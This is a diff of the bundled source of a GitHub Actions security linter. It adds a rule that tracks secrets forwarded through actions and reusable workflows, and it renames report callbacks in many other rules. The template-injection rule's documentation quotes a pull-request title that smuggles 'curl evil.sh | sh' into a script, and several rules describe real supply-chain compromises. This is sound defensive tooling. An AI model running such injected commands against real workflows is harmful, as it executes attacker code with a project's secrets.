+  let found = null;
+  try {
+    found = leakIn(action, tracked, context, depth, stack);
+  } finally {
+    stack.delete(key);
+  }
+  if (!byValue) {
+    byValue = /* @__PURE__ */ new Map();
+    memo.set(action, byValue);
+  }
+  byValue.set(memoKey, found);
+  return found;
+}
+function placeOf2(file, path) {
+  if (file.action) {
+    const at2 = file.action.stepAt(path);
+    if (!at2) return null;
+    return { job: null, step: at2.step, key: String(path[at2.keysAt] ?? ""), name: String(path[at2.keysAt + 1] ?? "") };
+  }
+  const workflow = file.workflow;
+  if (!workflow) return null;
+  if (path[0] === "env") return { job: null, step: null, key: "env", name: String(path[1] ?? "") };
+  if (path[0] !== "jobs") return null;
+  const job = workflow.jobs.find((candidate) => candidate.id === path[1]);
+  if (!job) return null;
+  const at = job.stepAt(path);
+  if (at) return { job, step: at.step, key: String(path[at.keysAt] ?? ""), name: String(path[at.keysAt + 1] ?? "") };
+  return { job, step: null, key: String(path[2] ?? ""), name: String(path[3] ?? "") };
+}
+function leakIn(action, tracked, context, depth, stack) {
+  const file = action.file;
+  const name = trackedName(tracked);
+  const here = (kind, what, severity, span) => ({
+    kind,
+    what,
+    severity,
+    hops: [{ action, name, span }]
+  });
+  const scripts = runScripts(file).filter((run2) => !run2.input);
+  const scriptOf = (step) => scripts.find((run2) => run2.step === step);
+  const checkedJobs = /* @__PURE__ */ new Set();
+  const intoStep = (step, job, variables, direct) => {
+    const uses = scalarText(step.uses?.value ?? null);
+    if (uses && isRemote(uses) && !isPinned(uses) && step.uses)
+      return here("unpinned", `hands it to \`${uses}\`, which is not pinned to a commit`, "medium", step.uses.valueSpan);
+    const run2 = step.run ? scriptOf(step) : void 0;
+    if (run2 && (direct || variables.length > 0)) {
+      const leak = scriptLeak(run2, { tracked, variables });
+      if (leak) return here(leak.kind, leak.what, leak.severity, leak.span);
+    }
+    void job;
+    return null;
+  };
+  const prHead = (job) => {
+    if (!context.privilegedCaller || !file.workflow || checkedJobs.has(job)) return null;
+    checkedJobs.add(job);
+    const checkout = untrustedCheckouts(file, file.workflow, job)[0];
+    if (!checkout) return null;
+    return here(
+      "pr-head",
+      `gives it to job \`${job.id}\`, which checks out the pull request's code (${checkout.how})`,
+      "high",
+      checkout.span
+    );
+  };
+  const further = (uses, inner, span) => {
+    const commit = context.view.commitOf?.(uses.owner, uses.repo, uses.ref);
+    if (!commit) return null;
+    const fetched = context.view.action(uses.owner, uses.repo, usesPath(uses), commit);
+    if (!fetched.available) return null;
+    if (fetched.value.file.kind === "action" && !fetched.value.file.action?.isComposite) return null;
+    const leak = follow(fetched.value, inner, context, depth + 1, stack);
+    if (!leak) return null;
+    return { ...leak, hops: [{ action, name, span }, ...leak.hops] };
+  };
+  for (const site of file.expressions) {
+    const occurrence = site.occurrence;
+    if (!occurrence.terminated || !astReads(occurrence.parsed.ast, tracked)) continue;
+    const place = placeOf2(file, site.path);
+    if (!place) continue;
+    const span = { start: occurrence.start, end: occurrence.end };
+    if (place.job) {
+      const leak = prHead(place.job);
+      if (leak) return leak;
+    }
+    if (place.step) {
+      if (place.key === "with") {
+        const uses = scalarText(place.step.uses?.value ?? null);
+        if (!uses || !isRemote(uses)) continue;
+        if (!isPinned(uses)) return intoStep(place.step, place.job, [], false);
+        const remote = lockableUses(uses);
+        if (!remote) continue;
+        const leak = further(remote, { context: "inputs", name: place.name.toLowerCase() }, span);
+        if (leak) return leak;
+      } else if (place.key === "env") {
+        const leak = intoStep(place.step, place.job, [place.name], false);
+        if (leak) return leak;
+      } else if (place.key === "run") {
+        const leak = intoStep(place.step, place.job, [], true);
+        if (leak) return leak;
+      }
+      continue;
+    }
+    if (place.key === "env") {
+      const jobs = place.job ? [place.job] : file.workflow?.jobs ?? [];
+      for (const job of jobs) {
+        if (!place.job) {
+          const leak = prHead(job);
+          if (leak) return leak;
+        }
+        for (const step of job.steps) {
+          const leak = intoStep(step, job, [place.name], false);
+          if (leak) return leak;
+        }
+      }
+      continue;
+    }
+    if (place.job && (place.key === "secrets" || place.key === "with")) {
+      const uses = scalarText(place.job.uses?.value ?? null);
+      if (!uses || !isRemote(uses)) continue;
+      if (!isPinned(uses) && place.job.uses)
+        return here("unpinned", `hands it to \`${uses}\`, which is not pinned to a commit`, "medium", place.job.uses.valueSpan);
+      const remote = lockableUses(uses);
+      if (!remote) continue;
+      const leak = further(remote, { context: place.key === "secrets" ? "secrets" : "inputs", name: place.name.toLowerCase() }, span);
+      if (leak) return leak;
+    }
+  }
+  if (tracked.context === "secrets" && file.workflow) {
+    for (const job of file.workflow.jobs) {
+      if (!job.secrets || scalarText(job.secrets.value) !== "inherit") continue;
+      const uses = scalarText(job.uses?.value ?? null);
+      if (!uses || !isRemote(uses)) continue;
+      if (!isPinned(uses) && job.uses)
+        return here(
+          "unpinned",
+          `passes it (\`secrets: inherit\`) to \`${uses}\`, which is not pinned to a commit`,
+          "medium",
+          job.uses.valueSpan
+        );
+      const remote = lockableUses(uses);
+      if (!remote) continue;
+      const leak = further(remote, tracked, job.secrets.valueSpan);
+      if (leak) return leak;
+    }
+  }
+  return null;
+}
+function privilegedCaller(file) {
+  return file.workflow?.triggers.some((trigger) => PRIVILEGED_OUTSIDER_TRIGGERS.includes(trigger.name)) ?? false;
+}
+
+// server/src/rules/secrets-forwarded.ts
+function secretIn(site) {
+  const ast = site.occurrence.terminated ? site.occurrence.parsed.ast : null;
+  if (!ast) return null;
+  for (const leaf of valueLeaves(ast)) {
+    if (leaf.type === "literal") continue;
+    const path = contextPath(leaf, { computedIndexAsWildcard: true });
+    if (!path) continue;
+    const lower2 = path.toLowerCase();
+    if (lower2.startsWith("secrets.") && lower2.length > 8 || lower2 === "github.token") return path;
+  }
+  return null;
+}
+function fetchedFor(site, view) {
+  const uses = lockableUses(site.value);
+  if (!uses) return null;
+  const commit = view.commitOf?.(uses.owner, uses.repo, uses.ref);
+  if (!commit) return null;
+  const fetched = view.action(uses.owner, uses.repo, usesPath(uses), commit);
+  return fetched.available ? fetched.value : null;
+}
+function sitesIn(file, entries) {
+  const byScalar = /* @__PURE__ */ new Map();
+  for (const entry of entries) if (entry.value) byScalar.set(entry.value, entry);
+  if (byScalar.size === 0) return [];
+  const out = [];
+  for (const site of file.expressions) {
+    const entry = byScalar.get(site.scalar);
+    if (entry) out.push({ site, entry });
+  }
+  return out;
+}
+function describe2(leak) {
+  const last = leak.hops.length - 1;
+  const parts = [];
+  const related2 = [];
+  leak.hops.forEach((hop, index2) => {
+    const line = hop.action.file.lines.range(hop.span).start.line;
+    const at = where(hop.action, line);
+    parts.push(index2 === last ? `${at} (\`${hop.name}\`) ${leak.what}` : `${at} passes \`${hop.name}\` on`);
+    related2.push({
+      span: hop.span,
+      message: index2 === last ? `here it ${leak.what.replace(/^(\S+) it\b/, "$1 `" + hop.name + "`")} (${at})` : `\`${hop.name}\` is passed on here (${at})`,
+      file: { uri: hop.action.url ?? hop.action.file.uri, lines: hop.action.file.lines }
+    });
+  });
+  return { chain: parts.join(" → "), related: related2 };
+}
+function report2(context, span, given, leak, target) {
+  const { chain: chain2, related: related2 } = describe2(leak);
+  context.report({
+    span,
+    message: `${given} ${target}: ${chain2}`,
+    severity: leak.severity,
+    related: related2
+  });
+}
+var secretsForwarded = {
+  id: "secrets-forwarded",
+  title: "Secret passed to a dependency that forwards it somewhere risky",
+  kinds: ["workflow", "action"],
+  severity: "medium",
+  confidence: "medium",
+  persona: "auditor",
+  online: false,
+  reads: ["dependencies"],
+  docs: {
+    summary: "A secret or `github.token` handed to an action or reusable workflow that passes it on to an unpinned action, writes it to `$GITHUB_ENV`/`$GITHUB_OUTPUT`/`$GITHUB_PATH`, sends it to a host, prints it, or gives it to a job running pull request code.",
+    why: "In March 2025 tj-actions/changed-files printed the secrets of the workflows running it to their logs after reviewdog/action-setup, which it ran by a mutable tag, was compromised (CVE-2025-30066, CVE-2025-30154): a secret handed to a pinned action is only as safe as what that action does with it.",
+    fix: "Pass the secret only to dependencies that use it themselves, pin what they hand it to (or ask their authors to), or call the service with the secret in your own step. Where the dependency's use is intended (an upload to the service the secret is for), suppress the finding on that line."
+  },
+  check(context) {
+    const { file, dependencies } = context;
+    if (!dependencies.available) return;
+    const view = dependencies.value;
+    const follow2 = { view, privilegedCaller: privilegedCaller(file) };
+    for (const site of file.uses) {
+      const fetched = fetchedFor(site, view);
+      if (!fetched) continue;
+      if (site.step) {
+        if (fetched.file.kind !== "action" || !fetched.file.action?.isComposite) continue;
+        for (const { site: expression, entry } of sitesIn(file, site.step.with.entries)) {
+          const secret = secretIn(expression);
+          if (!secret) continue;
+          const tracked = { context: "inputs", name: entry.key.toLowerCase() };
+          const leak = followSecret(fetched, tracked, follow2);
+          if (!leak) continue;
+          const span = { start: expression.occurrence.start, end: expression.occurrence.end };
+          report2(context, span, `\`${secret}\` is passed as \`${entry.key}\` to`, leak, `\`${site.value}\``);
+        }
+        continue;
+      }
+      const job = site.job;
+      if (!job || fetched.file.kind !== "workflow" || !job.secrets) continue;
+      if (scalarText(job.secrets.value) === "inherit") {
+        const tracked = { context: "secrets", name: null };
+        const leak = followSecret(fetched, tracked, follow2);
+        if (leak) report2(context, job.secrets.valueSpan, `every secret (\`secrets: inherit\`) is passed to`, leak, `\`${site.value}\``);
+        continue;
+      }
+      for (const { site: expression, entry } of sitesIn(file, job.child("secrets").entries)) {
+        const secret = secretIn(expression);
+        if (!secret) continue;
+        const tracked = { context: "secrets", name: entry.key.toLowerCase() };
+        const leak = followSecret(fetched, tracked, follow2);
+        if (!leak) continue;
+        const span = { start: expression.occurrence.start, end: expression.occurrence.end };
+        report2(context, span, `\`${secret}\` is passed as secret \`${entry.key}\` to`, leak, `\`${site.value}\``);
+      }
+    }
+  }
+};
 
 // server/src/rules/support/callers.ts
 var MAX_CALL_DEPTH = 10;
@@ -18473,7 +19978,7 @@ var secretsInherit = {
     why: "A reusable workflow that is compromised, or whose ref moves (as the tags of tj-actions/changed-files did in 2025, CVE-2025-30066), receives all of the caller's secrets at once. GhostAction (2025) exfiltrated 3,325 secrets from 817 repositories: each secret a workflow can reach is one more to lose.",
     fix: "Pass only the secrets the called workflow declares under `on.workflow_call.secrets`, e.g. `secrets: { PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }} }`."
   },
-  check({ file, report: report2, workspace }) {
+  check({ file, report: report4, workspace }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const space = viewValue(workspace);
@@ -18485,7 +19990,7 @@ var secretsInherit = {
       const called = local && space ? resolveLocalUses(space, target, file) : null;
       const read = called?.file.workflow ? secretsRead(called.file) : null;
       const advice = read === null ? "pass only the secrets it declares" : read.length === 0 ? "it reads no secret: remove `secrets: inherit`" : `it reads ${read.slice(0, 5).map((name) => `\`${name}\``).join(", ")}${read.length > 5 ? "…" : ""}: pass only ${read.length === 1 ? "that one" : "those"}`;
-      report2({
+      report4({
         span: secrets.valueSpan,
         message: `job \`${job.id}\` passes every repository and organisation secret to \`${target}\`${local ? " (a workflow of this repository)" : ""}; ${advice}`,
         severity: local ? "low" : "medium",
@@ -18517,7 +20022,7 @@ var secretsOutsideEnv = {
     why: "Secrets stored in a deployment environment are released only to jobs that name it, and only after its protection rules (required reviewers, allowed branches and tags) pass. In Nx s1ngularity (2025) and elementary-data (2026) a dispatchable or injectable workflow read publishing tokens straight from repository secrets; at spotbugs (2024) and Trivy (2026) the PAT sat in a `pull_request_target` job. Astral keeps every secret in an environment.",
     fix: "Move the secret into an environment (Settings → Environments) with required reviewers or a branch/tag rule, and add `environment: <name>` to the job. Secrets that are harmless can be listed in the rule's `allow` configuration."
   },
-  check({ file, config, report: report2 }) {
+  check({ file, config, report: report4 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     if (workflow.triggers.length > 0 && workflow.triggers.every((trigger) => trigger.name === "workflow_call")) return;
@@ -18530,7 +20035,7 @@ var secretsOutsideEnv = {
       const references = secretReferences(file, job.span).filter((secret) => !allow.has(secret.name.toUpperCase()));
       if (references.length === 0) continue;
       const names2 = [...new Set(references.map((secret) => secret.name === "*" ? "a computed secret" : `\`${secret.name}\``))];
-      report2({
+      report4({
         span: references[0].span,
         message: `job \`${job.id}\` uses ${names2.length === 1 ? "secret" : "secrets"} ${names2.slice(0, 4).join(", ")}${names2.length > 4 ? ` and ${names2.length - 4} more` : ""} without an \`environment:\`: ${names2.length === 1 ? "it is" : "they are"} available to any run of this job, with no reviewer or branch rule`,
         related: references.slice(1, 8).map((secret) => ({ span: secret.span, message: `secret \`${secret.name}\`` }))
@@ -18566,7 +20071,7 @@ var selfHostedRunner = {
     why: "Self-hosted runners are not wiped between jobs: code from one run can leave a backdoor for the next and reach whatever the machine can reach. The Shai-Hulud 2 worm (2025) registered victims' machines as self-hosted runners and drove them with a `discussion` workflow; Praetorian's and John Stawinski's 2024 research took over PyTorch's release infrastructure through fork pull requests running on its self-hosted runners.",
     fix: "Use GitHub-hosted runners for anything an outsider can trigger; require approval for fork pull requests from all outside contributors; run self-hosted runners as ephemeral (`--ephemeral`, one job per VM) in a runner group restricted to specific private repositories and workflows."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const outsider = workflow.triggers.map((trigger) => trigger.name).filter((name) => OUTSIDER.includes(name));
@@ -18577,7 +20082,7 @@ var selfHostedRunner = {
       if (!hit) continue;
       const exposed = outsider.length > 0;
       const forkCode = outsider.includes("pull_request") || outsider.includes("pull_request_target");
-      report2({
+      report4({
         span: hit.span,
         message: exposed ? `job \`${job.id}\` runs on ${hit.what} and \`${outsider[0]}\` lets ${triggerInfo(outsider[0])?.firedBy ?? "outsiders"} start it: a non-ephemeral runner can be backdoored` : `job \`${job.id}\` runs on ${hit.what}; make sure the runner is ephemeral and restricted to this repository`,
         severity: exposed ? forkCode ? "high" : "medium" : "medium",
@@ -18694,7 +20199,7 @@ var selfRepository = {
     why: "In the 2026 Trivy compromise (hackerbot-claw), a `pull_request_target` workflow checked out the pull request and then ran `uses: ./.github/actions/setup-go`: the \"local\" action was the attacker's code, running with the organisation's token. `./` also cannot satisfy GitHub's \"require full-length SHA\" policy. `$/` (GA July 2026) names the workflow's own repository and commit.",
     fix: "Write `uses: $/path`. The quick fix is offered only where the repository holds `path/action.yml` (or `action.yaml`): `$/` loads the action from the workflow's commit, so a folder an earlier step makes (or an ignored one) would not be found. It is marked safe when the job checks out only its own repository at the default ref and the target was checked, and unsafe when an earlier checkout names a `ref:` (then `./` runs that ref's code and `$/` runs the workflow's commit — usually what you want, but review it) or when the repository's other files were not seen (a single file scanned)."
   },
-  check({ file, workspace, report: report2 }) {
+  check({ file, workspace, report: report4 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     for (const site of file.uses) {
@@ -18710,13 +20215,13 @@ var selfRepository = {
       const replacement = `$/${raw.slice(2)}`;
       const target = localActionTarget(workspace, raw);
       if (target === "missing") {
-        report2({
+        report4({
           span: { start: span.start, end: span.start + 2 },
           message: `\`${raw}\` loads the action from the workspace, and this repository has no \`action.yml\` or \`action.yaml\` there (made by an earlier step, or ignored?): \`${replacement}\` would not find it in the workflow's commit, so no rewrite is offered`
         });
         continue;
       }
-      report2({
+      report4({
         span: { start: span.start, end: span.start + 2 },
         message: before.includes("moved-ref") ? `\`${raw}\` runs the action from the ref checked out earlier in job \`${site.job.id}\`, not from this workflow's commit: use \`${replacement}\`` : `\`${raw}\` loads the action from the workspace; \`${replacement}\` loads it from this workflow's own commit and satisfies SHA-pinning policies`,
         fixes: [
@@ -18734,12 +20239,12 @@ var selfRepository = {
 };
 
 // server/src/rules/stale-action-refs.ts
-function checkStaleActionRefs({ file, online, report: report2 }) {
+function checkStaleActionRefs({ file, online, report: report4 }) {
   if (!online.available) return;
   const snapshot = online.value;
   for (const { site, uses, refs } of resolvedUses(file.uses, snapshot, "sha-pins")) {
     if (refs.tags.length === 0 || tagsAt(refs, uses.ref).length > 0) continue;
-    report2({
+    report4({
       span: refOrValueSpan(site, uses),
       message: `No tag of ${uses.repository} points at ${uses.ref.slice(0, 12)}…: \`${usesTarget(uses)}\` runs unreleased code`
     });
@@ -18812,7 +20317,7 @@ var superfluousActions = {
     why: "Every action is code from another owner running with your job's token and secrets; each one is a place where a moved tag or hijacked account (tj-actions/changed-files and reviewdog in 2025) reaches you. A one-line `gh` or `git` command has no such supply chain.",
     fix: "Replace the step with the command the message names (with `GH_TOKEN: ${{ github.token }}` in `env:` for `gh`)."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote" || reference.subpath !== null) continue;
@@ -18820,7 +20325,7 @@ var superfluousActions = {
       if (!entry) continue;
       const end = reference.ref === null ? site.value.length : reference.refStart - 1;
       const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
-      report2({
+      report4({
         span,
         message: `\`${usesTarget(reference)}\` can be replaced by ${typeof entry.replacement === "string" ? entry.replacement : entry.replacement(reference.ref)}, with no third-party code in the job`,
         persona: entry.persona
@@ -18984,7 +20489,7 @@ var templateInjection = {
     why: "Expressions are substituted into the script text before it runs, so a pull request title such as `\"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action's `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.",
     fix: 'Pass the value through an environment variable: add `NAME: ${{ <expression> }}` to the step\'s `env:` and use `"$NAME"` (bash), `$env:NAME` (PowerShell), `%NAME%` (cmd) or `process.env.NAME` (github-script). The quick fix does this for single-context expressions.'
   },
-  check({ file, report: report2, workspace }) {
+  check({ file, report: report4, workspace }) {
     const space = viewValue(workspace);
     for (const { site, scope, sink, leaves } of sinkLeaves(file)) {
       const single = singleContext(site);
@@ -19006,7 +20511,7 @@ var templateInjection = {
           ) : null;
           return fix ? [fix] : [];
         };
-        report2({
+        report4({
           span: { start: leaf.start, end: leaf.end },
           message: `\`${leaf.path}\` is expanded into ${sink.label}: ${verdict2.reason}. Pass it through \`env:\` instead`,
           severity: verdict2.severity,
@@ -19017,11 +20522,11 @@ var templateInjection = {
         });
       }
     }
-    reportAliasedSinks(file, report2);
-    if (space) reportCallsPassingUntrustedText(file, space, report2);
+    reportAliasedSinks(file, report4);
+    if (space) reportCallsPassingUntrustedText(file, space, report4);
   }
 };
-function reportAliasedSinks(file, report2) {
+function reportAliasedSinks(file, report4) {
   const steps = [];
   if (file.workflow) for (const job of file.workflow.jobs) for (const step of job.steps) steps.push({ step, job });
   if (file.action) for (const step of file.action.steps) steps.push({ step, job: null });
@@ -19061,7 +20566,7 @@ function reportAliasedSinks(file, report2) {
         if (base2 !== -1 && sinkOf(site, scopeOf(file, site.path), base2)) continue;
         for (const leaf of assessSite(site, scope)) {
           const { verdict: verdict2 } = leaf;
-          report2({
+          report4({
             span: { start: leaf.start, end: leaf.end },
             message: `\`${leaf.path}\` is expanded into ${label} through the alias \`${aliasText}\` (line ${file.lines.lineAt(aliasSpan.start) + 1}): ${verdict2.reason}. Pass it through the running step's \`env:\` instead`,
             severity: verdict2.severity,
@@ -19150,7 +20655,7 @@ function inputSinks(file) {
   return sinks;
 }
 var INPUT_SINKS = new AttachedCache("input-sinks", attachmentsOf);
-function reportCallsPassingUntrustedText(file, space, report2) {
+function reportCallsPassingUntrustedText(file, space, report4) {
   for (const site of file.uses) {
     if (site.reference.kind !== "local" && site.reference.kind !== "self") continue;
     const target = resolveLocalUses(space, site.value, file);
@@ -19174,7 +20679,7 @@ function reportCallsPassingUntrustedText(file, space, report2) {
       }
       if (!best) continue;
       const sink = targets3[0];
-      report2({
+      report4({
         span: site.entry.valueSpan,
         message: `\`${best.path}\` is passed as input \`${entry.key}\` to \`${target.path}\`, which expands it into ${sink.label}: ${best.verdict.reason}. Pass it through \`env:\` in the called file instead`,
         severity: best.verdict.severity,
@@ -19486,14 +20991,14 @@ var typosquatUses = {
     why: "Typosquatting is an old package-registry attack that works on actions too: researchers registered owners such as `actons` and `actlons` and found workflows running their code. A one-letter slip in `uses:` hands the job, its token and its secrets to a stranger.",
     fix: "Check the spelling against the action's Marketplace page and correct the owner or repository name. If the similar name is intended, suppress with `# warden: ignore[typosquat-uses]`."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote") continue;
       const target = typosquatTarget(reference.repository);
       if (!target) continue;
       const span = site.exact && !reference.obscured ? { start: site.valueStart, end: site.valueStart + reference.owner.length + 1 + reference.repo.length } : site.entry.valueSpan;
-      report2({
+      report4({
         span,
         message: `\`${reference.repository}\` is one character away from the popular action \`${target}\` but belongs to another owner: check that this is not a typo`
       });
@@ -19739,7 +21244,7 @@ var unpinnedTools = {
     why: "In Trivy #2 (2026, CVE-2026-33634) the release channel of trivy was taken over: workflows that had pinned `aquasecurity/setup-trivy` or `trivy-action` to a commit still downloaded the malicious trivy 0.69.4, because the action defaulted to the latest release. `reviewdog/action-setup` (CVE-2025-30154) had the same `reviewdog_version: latest` default.",
     fix: "Set the version input to an exact release (`version: v0.69.3`, `reviewdog_version: v0.20.3`), and let Dependabot/Renovate propose updates with a cooldown."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     for (const { job, step } of allSteps(file)) {
       const action = stepAction(file, step);
       const tool = action && TOOL_ACTIONS[action.name];
@@ -19751,7 +21256,7 @@ var unpinnedTools = {
       if (!(latest || absent && tool.absentIsLatest || absent && !tool.absentIsLatest)) continue;
       const credentials = publishCredentials(file, job);
       const certain = latest || tool.absentIsLatest;
-      report2({
+      report4({
         span: entry ? entry.valueSpan : action.site.entry.valueSpan,
         message: `\`${action.name}\` installs ${latest ? `\`${value.trim() || "latest"}\`` : "the latest (or the action's default)"} ${tool.tool}${absent ? ` (no \`${tool.input}:\`)` : ""}: pinning the action does not pin the tool${credentials ? `, in a job holding publish credentials (${credentials})` : ""}`,
         severity: credentials ? "high" : certain ? "medium" : "low",
@@ -19827,7 +21332,7 @@ function checkJob(ctx, job, budget) {
       for (const target of targets2(file, step.get(key), list)) {
         if (target.value === "" || target.value.includes("${{")) continue;
         if (known.exact.has(target.value)) continue;
-        report(ctx, job, step, key, target, own, known, laterIds.get(target.value) ?? null, groupIds.get(target.value) ?? null, budget);
+        report3(ctx, job, step, key, target, own, known, laterIds.get(target.value) ?? null, groupIds.get(target.value) ?? null, budget);
       }
     }
     if (own !== null && !known.exact.has(own)) {
@@ -19839,7 +21344,7 @@ function checkJob(ctx, job, budget) {
     }
   }
 }
-function report(ctx, job, step, key, target, own, known, later, inGroup, budget) {
+function report3(ctx, job, step, key, target, own, known, later, inGroup, budget) {
   const id = target.value;
   const where2 = `\`${key}:\` of step ${step.name || step.id ? `\`${step.label}\`` : step.position} in job \`${job.id}\``;
   let message;
@@ -19901,7 +21406,7 @@ var unlockedUses = {
     why: "Under GitHub's workflow dependency lockfile the runner executes the commit the lock records for each `owner/repo@ref`; tags stay readable in `uses:` because the lock, not the tag, decides the code. A ref with no entry is a dependency nobody locked: after the 2025 `tj-actions/changed-files` tag rewrite (CVE-2025-30066) that is exactly the mutable reference the lock exists to remove.",
     fix: 'Lock it: `gh actions-lock` (or the "Add to actions.lock" fix when online) records the commit the ref resolves to today, with the owner and repository ids.'
   },
-  check({ file, lock, report: report2 }) {
+  check({ file, lock, report: report4 }) {
     const view = viewValue(lock);
     if (!view) return;
     const workflow = onboardedWorkflow(view.lock, view.workflowPath);
@@ -19911,7 +21416,7 @@ var unlockedUses = {
       if (uses.kind !== "remote") continue;
       const coverage = coverageOf(view.lock, uses);
       if (coverage?.state !== "unlocked") continue;
-      report2({
+      report4({
         span: refOrValueSpan(site, uses),
         message: `\`${usesTarget(uses)}@${uses.ref}\` has no entry in actions.lock, which lists this workflow: the run fails under enforcement. Lock it (gh actions-lock)`
       });
@@ -19967,18 +21472,18 @@ var unpinnedUses = {
     why: "In March 2025 every tag of `tj-actions/changed-files` (CVE-2025-30066) was moved to a commit that dumped the runner's memory into the build log, exposing the secrets of thousands of repositories; it came in through `reviewdog/action-setup@v1`, whose tag had been moved too (CVE-2025-30154). In 2026 the tags of `aquasecurity/trivy-action` were force-pushed the same way. Only a full commit SHA is immutable.",
     fix: "Pin to the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`, so updaters such as Dependabot and Renovate keep it current."
   },
-  check({ file, config, online, lock, report: report2 }) {
+  check({ file, config, online, lock, report: report4 }) {
     const snapshot = viewValue(online);
     const lockView = viewValue(lock);
-    const onboarded = lockView && onboardedWorkflow(lockView.lock, lockView.workflowPath) ? lockView : null;
+    const onboarded2 = lockView && onboardedWorkflow(lockView.lock, lockView.workflowPath) ? lockView : null;
     const preferSha = pinningStyle(config, lock) === "sha";
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote") continue;
       const target = usesTarget(reference);
       const what = reference.isReusableWorkflow ? "reusable workflow" : "action";
-      if (onboarded && coverageOf(onboarded.lock, reference) !== null) {
-        if (reference.refKind === "sha") reportBareSha(file, site, reference, onboarded, snapshot, report2);
+      if (onboarded2 && coverageOf(onboarded2.lock, reference) !== null) {
+        if (reference.refKind === "sha") reportBareSha(file, site, reference, onboarded2, snapshot, report4);
         continue;
       }
       if (reference.refKind === "sha") continue;
@@ -19987,7 +21492,7 @@ var unpinnedUses = {
       const fixes = plan?.ok ? [preferSha ? plan.fix : { ...plan.fix, isPreferred: false }] : [];
       const span = refOrValueSpan(site, reference);
       if (reference.ref === null || reference.ref === "") {
-        report2({
+        report4({
           span: site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan,
           message: `\`${target}\` has no ref: name a full commit SHA, e.g. \`${target}@<40-hex sha> # vX.Y.Z\``
         });
@@ -19995,24 +21500,24 @@ var unpinnedUses = {
       }
       switch (reference.refKind) {
         case "short-sha":
-          report2({
+          report4({
             span,
             message: `\`${target}@${reference.ref}\` uses an abbreviated SHA, which is not a pin: an attacker can push a colliding commit. Use the full 40-character SHA`,
             fixes
           });
           break;
         case "expression":
-          report2({ span, message: `${what} \`${target}\` takes its ref from an expression, which cannot be pinned`, confidence: "medium" });
+          report4({ span, message: `${what} \`${target}\` takes its ref from an expression, which cannot be pinned`, confidence: "medium" });
           break;
         case "branch-like":
-          report2({
+          report4({
             span,
             message: `${what} \`${target}\` is pinned to \`${reference.ref}\`, a branch or tag that can move to other code: pin it to a full commit SHA`,
             fixes
           });
           break;
         default:
-          report2({
+          report4({
             span,
             message: `${what} \`${target}\` is pinned to tag \`${reference.ref}\`, which can be moved to other code: pin it to a full commit SHA`,
             fixes
@@ -20035,7 +21540,7 @@ function shaToTagEdits(file, site, uses, tag) {
   }
   return [{ span, newText: tag }];
 }
-function reportBareSha(file, site, uses, view, snapshot, report2) {
+function reportBareSha(file, site, uses, view, snapshot, report4) {
   const comment = trailingComment(file, site, uses.ref);
   const version2 = comment && comment !== "blocked" ? comment.version : null;
   const tagEntry = version2 ? lockEntry(view.lock, pinKeyOf(uses.owner, uses.repo, version2.text)) : void 0;
@@ -20059,7 +21564,7 @@ function reportBareSha(file, site, uses, view, snapshot, report2) {
   } else {
     message = `${head} a version such as ${version2 ? `\`${version2.text}\`` : "`vX.Y.Z`"} keeps \`uses:\` readable${fixes.length === 0 && version2 ? " (lock that version first: gh actions-lock)" : ""}`;
   }
-  report2({ span, severity: "informational", message, fixes });
+  report4({ span, severity: "informational", message, fixes });
 }
 
 // server/src/rules/unredacted-secrets.ts
@@ -20076,12 +21581,12 @@ var unredactedSecrets = {
     why: "The runner masks the exact text of each secret. A field taken out of a JSON secret (`fromJSON(secrets.CREDS).password`) is a different string, printed in clear by any `echo`, `set -x` or error message; public build logs then leak it.",
     fix: "Store each value as its own secret, or register the parts with `::add-mask::` before anything can print them."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     walkFencedExpressions(file, (node, span) => {
       if (node.type !== "call" || functionKey(node) !== "fromjson" || node.args.length !== 1) return true;
       const path = contextPath(node.args[0], { computedIndexAsWildcard: true });
       if (path && path.startsWith("secrets.")) {
-        report2({
+        report4({
           span,
           message: `\`fromJSON(${path})\` yields values the runner does not mask in logs: store each value as its own secret`
         });
@@ -20109,7 +21614,7 @@ var unsoundCondition = {
     why: "GitHub evaluates an `if:` as an expression only when the whole value is one `${{ }}`; otherwise it interpolates the fences into a string, which is truthy. `if: |` with a `${{ }}` inside therefore always runs the step: guards such as `github.event.pull_request.head.repo.fork == false` in front of secret-using or publishing steps silently stop guarding.",
     fix: "Write the condition on one line without a fence (`if: a && b`), or use a stripping block header (`|-`, `>-`; the quick fix does that), or put all the text inside one `${{ }}`."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     for (const { entry, owner } of conditions(file)) {
       const scalar = asScalar(entry.value);
       if (!scalar || typeof scalar.value !== "string") continue;
@@ -20134,7 +21639,7 @@ var unsoundCondition = {
         }
       }
       const reason = block && fixes.length > 0 ? "the block scalar keeps a trailing newline" : "it has text outside its `${{ }}`";
-      report2({
+      report4({
         span: entry.valueSpan,
         message: `The \`if:\` of ${owner} is always true: ${reason}, so GitHub reads it as a non-empty string instead of evaluating the condition`,
         fixes
@@ -20158,7 +21663,7 @@ var unsoundContains = {
     why: "People write `contains('a b c', x)` meaning \"x is one of a, b, c\". A branch named `refs/heads/mai` or an input of `a` satisfies it, which turns branch or actor guards in front of deployments and secret use into formalities.",
     fix: 'Use an array: `contains(fromJSON(\'["refs/heads/main", "refs/heads/release"]\'), github.ref)`, or explicit comparisons joined with `||`.'
   },
-  check({ file, report: report2 }) {
